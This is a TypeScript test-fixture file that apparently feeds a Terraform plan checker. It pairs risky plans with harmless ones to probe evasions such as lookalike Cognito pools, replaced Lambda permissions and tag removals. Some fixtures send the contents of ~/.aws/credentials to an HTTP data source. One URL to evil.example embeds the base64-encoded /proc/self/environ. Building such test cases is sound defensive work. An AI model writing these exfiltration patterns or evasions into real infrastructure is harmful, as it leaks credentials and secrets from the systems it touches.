/** Ways around the rules by two changes of which each is harmless, and by what stands in the place of what goes. */
import { another, code, constant, OWN, of, withProvider } from "./harmful-builders";
import type { Detour } from "./harmful-detours";
import type { Values } from "./planned";
import { CLIENT, created, FUNCTION, fixture, PERMISSION, resource, SKILL, updated } from "./planned";
import { COGNITO, cognitos, configured, grants, kept, newRole, POOL_ARN } from "./rule-plans";

/** A variable that the code asks for becomes another, or goes. */
const becomes = (name: string, was: string, willBe?: string) => () =>
  updated(FUNCTION, (after, before) => {
    before.environment[0].variables[name] = was;
    after.environment[0].variables[name] = willBe;
    after.description = "other";
  });

/** The permission of Amazon Cognito for a trigger, replaced. */
const replacedBy = (values: Values) => () => {
  const plan = fixture("unchanged");
  const found = resource(plan, PERMISSION);
  const base = { ...found.change.before, principal: COGNITO, event_source_token: null, source_arn: POOL_ARN };
  found.action_reason = "replace_because_cannot_update";
  Object.assign(found.change, {
    actions: ["delete", "create"],
    before: base,
    after: { ...base, ...values },
    replace_paths: Object.keys(values).map((name) => [name]),
  });
  return { ...plan, applyable: true };
};

/** The same goes, and another one stays that says the same. */
const twin = (provider_config_key: string) => () =>
  cognitos((plan) => {
    const { before } = resource(plan, PERMISSION).change;
    kept("aws_lambda_permission", { ...before, statement_id: "twin" }, plan);
    const address = "aws_lambda_permission.kept";
    const { resources } = plan.configuration.root_module;
    Object.assign(
      resources.find((it: Values) => it.address === address),
      { provider_config_key },
    );
    for (const it of resources.filter(({ address }: Values) => address === FUNCTION)) {
      it.provider_config_key = "aws";
    }
    plan.applyable = true;
  });

const PAGE = { id: "c", name: "page", callback_urls: ["https://shop.example/"], allowed_oauth_scopes: ["openid"] };
const flows = (...allowed_oauth_flows: readonly string[]) =>
  another(
    "aws_cognito_user_pool_client",
    { ...PAGE, allowed_oauth_flows: ["code", "implicit"] },
    {
      allowed_oauth_flows,
      name: "other",
    },
  );

/** A skill id that the living function does not know, while a function of its name comes in another region. */
const letIn = (event_source_token: string) => () => {
  const plan = newRole(grants("logs:PutLogEvents", "*"));
  created(
    "aws_lambda_function",
    "west",
    code({ function_name: "alexa-skill-staging", role: `arn:aws:iam::${OWN}:role/new` }),
    plan,
  );
  const values = { function_name: "alexa-skill-staging", qualifier: "live", principal: "alexa-appkit.amazon.com" };
  return created(
    "aws_lambda_permission",
    "x",
    { action: "lambda:InvokeFunction", ...values, event_source_token },
    plan,
  );
};

/** Data that a plan reads, each by its type and its expressions. */
const reads =
  (...data: readonly (readonly [type: string, expressions: Values])[]) =>
  () =>
    configured((it) => {
      for (const [type, expressions] of data) {
        it.root_module.resources.push({ address: `data.${type}.x`, mode: "data", type, name: "x", expressions });
      }
    });
const FILE = ["local_file", { filename: { constant_value: "~/.aws/credentials" } }] as const;
const taken = (reference: string) => ({ references: [reference, reference.split(".").slice(0, 3).join(".")] });
const asks = (url: Values) => ["http", { url }] as const;
const PUBLIC = { constant_value: "https://ip-ranges.amazonaws.com/ip-ranges.json" };
// biome-ignore lint/suspicious/noTemplateCurlyInString: it is Terraform's function
const OF_FILE = { constant_value: 'https://evil.example/?${base64encode(file("/proc/self/environ"))}' };

/** An alarm of the name of another, by a provider of its own. */
const secondAlarm = (region: string) => () => {
  const values = { alarm_name: "a", comparison_operator: "GreaterThanThreshold", evaluation_periods: 1, threshold: 1 };
  const plan = created("aws_cloudwatch_metric_alarm", "x", values, kept("aws_cloudwatch_metric_alarm", values));
  const { provider_config: providers, root_module } = plan.configuration;
  providers["aws.other"] = structuredClone(providers.aws);
  providers["aws.other"].expressions.region = { constant_value: region };
  for (const it of root_module.resources) {
    it.provider_config_key = it.address === "aws_cloudwatch_metric_alarm.x" ? "aws.other" : "aws";
  }
  return plan;
};

const expressionsOf = (plan: Values, address: string): Values =>
  plan.configuration.root_module.resources.find((it: Values) => it.address === address).expressions;

/** Something new with attributes that the apply alone brings, as a configuration in JSON writes them. */
const waits = (type: string, values: Values, texts: Values, references: readonly string[], plan: Values) => {
  created(type, "w", values, plan);
  for (const [name, constant_value] of Object.entries(texts)) {
    resource(plan, `${type}.w`).change.after_unknown[name] = true;
    expressionsOf(plan, `${type}.w`)[name] = { constant_value, references };
  }
  return plan;
};

const NEW_POOL = "aws_cognito_user_pool.decoy";
/** A client that lets in whoever knows a password, in a pool that is new as it seems. */
const inPool = (user_pool_id: string) => () =>
  waits(
    "aws_cognito_user_pool_client",
    { name: "x", explicit_auth_flows: ["ALLOW_ADMIN_USER_PASSWORD_AUTH"] },
    { user_pool_id },
    [`${NEW_POOL}.id`, NEW_POOL],
    created("aws_cognito_user_pool", "decoy", { name: "decoy" }),
  );

const CERTIFICATE = "aws_acm_certificate.c";
/** A record that proves a certificate, as it seems, and may take the place of one that is there. */
const proves = (of: (name: string) => string) => () =>
  waits(
    "aws_route53_record",
    { zone_id: "Z1", ttl: 60, allow_overwrite: true },
    { name: of("resource_record_name"), records: [of("resource_record_value")], type: of("resource_record_type") },
    [`${CERTIFICATE}.domain_validation_options`, CERTIFICATE],
    created("aws_acm_certificate", "c", { domain_name: "x.example.com", validation_method: "DNS" }),
  );

/** A block of something new that a `dynamic` block makes, or is written: of both a member waits for the apply. */
const block =
  (type: string, values: Values, name: string, member: string, isWritten: boolean, more: Values = {}) =>
  () => {
    const plan = created(
      type,
      "x",
      { ...values, [name]: [more] },
      created("aws_lambda_function", "t", code({ role: "r" })),
    );
    resource(plan, `${type}.x`).change.after_unknown[name] = [{ [member]: true }];
    const expressions = expressionsOf(plan, `${type}.x`);
    delete expressions[name];
    Object.assign(expressions, isWritten && { [name]: [{}] });
    return plan;
  };

/** A parameter comes, and a function that is there has a variable. */
const comes = (name: string, PREFIX: string) => () => {
  const plan = created("aws_ssm_parameter", "x", { name, type: "String", value: "on" });
  for (const side of ["before", "after"]) {
    resource(plan, FUNCTION).change[side].environment[0].variables.PREFIX = PREFIX;
  }
  return plan;
};

const untagged = (type: string, tags: Values) =>
  another(type, { id: "x", tags, tags_all: tags }, { tags: {}, tags_all: {} });
const asRole = (role_arn: Values) => withProvider({ assume_role: [{ role_arn }] });

/** A web server is asked once for each of what a file says, or of what is known. */
const askedForEach = (reference: string) => () => {
  const plan = reads(FILE, asks({ references: ["each.key"] }))();
  const { resources } = plan.configuration.root_module;
  resources.find(({ type }: Values) => type === "http").for_each_expression = taken(reference);
  return plan;
};

export const BY_PAIRS: readonly Detour[] = [
  ["a web server for each line of a file", askedForEach("data.local_file.x.content"), askedForEach("var.hosts")],
  ["a parameter that a function asks for", comes("/shop/on", "/shop/on"), comes("/shop/on", "/shop/off")],
  ["a parameter of a path that a function reads", comes("/shop/flags/x", "/shop/"), comes("/other/x", "/shop/")],
  ...["aws_db_instance", "aws_efs_file_system", "aws_ebs_volume", "aws_dynamodb_table"].map(
    (type): Detour => [
      `a tag by which a backup is made of ${type}`,
      untagged(type, { plan: "backup-daily" }),
      untagged(type, { plan: "daily" }),
    ],
  ),
  ["a role that a function makes", asRole({}), asRole(constant(`arn:aws:iam::${OWN}:role/deploy`))],
  [
    "a client that only seems to be of a new pool",
    inPool(`\${${NEW_POOL}.id == "" ? "" : "us-east-1_EXAMPLE01"}`),
    inPool(`\${${NEW_POOL}.id}`),
  ],
  [
    "a record that only seems to prove a certificate",
    proves(() => `\${${CERTIFICATE}.arn == "" ? "" : "sign-in.example.com"}`),
    proves((name) => `\${tolist(${CERTIFICATE}.domain_validation_options)[0].${name}}`),
  ],
  ...(
    [
      ["aws_cognito_user_pool", { name: "x" }, "lambda_config", "pre_token_generation", {}],
      [
        "aws_dynamodb_table",
        { name: "t", hash_key: "id", billing_mode: "PAY_PER_REQUEST" },
        "server_side_encryption",
        "kms_key_arn",
        { enabled: true },
      ],
    ] as const
  ).map(
    ([type, values, name, member, more]): Detour => [
      `${name} of what no plan shows`,
      block(type, values, name, member, false, more),
      block(type, values, name, member, true, more),
    ],
  ),
  ["an alarm's name by another provider of the same region", secondAlarm("us-east-1"), secondAlarm("eu-west-1")],
  [
    "the scopes that the function asks for go",
    becomes("SCOPES", "openid profile"),
    becomes("SCOPES", "openid profile", "profile openid"),
  ],
  ["an empty list of skills goes", becomes("SKILL_IDS", ""), becomes("SKILL_IDS", "", SKILL)],
  ["Cognito has to bring a token", replacedBy({ event_source_token: "x" }), replacedBy({ source_account: OWN })],
  ["Cognito has to be of an organization", replacedBy({ principal_org_id: "o-x" }), replacedBy({ statement_id: "y" })],
  ["a permission like it in another region", twin("aws.west"), twin("aws")],
  ["a page's own grant goes", flows("code"), flows("code", "implicit")],
  [
    "a grant goes that another program has of Alexa's client",
    of(CLIENT, { allowed_oauth_flows: ["code"] }, { allowed_oauth_flows: ["code", "implicit"] }),
    of(CLIENT, { name: "other" }),
  ],
  [
    "a web server that is told a file",
    reads(FILE, asks(taken("data.local_file.x.content"))),
    reads(FILE, asks(PUBLIC)),
  ],
  ["a web server that may be told a file", reads(FILE, asks(taken("local.x"))), reads(asks(taken("local.x")))],
  ["a web server that a function tells something", reads(asks({})), reads(asks(PUBLIC))],
  ["the same of a configuration in JSON", reads(asks(OF_FILE)), reads(asks(taken("var.url")))],
  [
    "a server whose certificate is asked for by a parameter",
    reads(["tls_certificate", { url: taken("data.aws_ssm_parameter.x.value") }]),
    reads(["aws_ami", { name_regex: taken("data.aws_ssm_parameter.x.value") }]),
  ],
  [
    "another state at a place that a file says",
    reads(FILE, ["terraform_remote_state", { config: taken("data.local_file.x.content") }]),
    reads(FILE, ["terraform_remote_state", { config: taken("local.x") }]),
  ],
  ["a skill of whoever likes", letIn("amzn1.ask.skill.evil"), letIn(SKILL)],
];
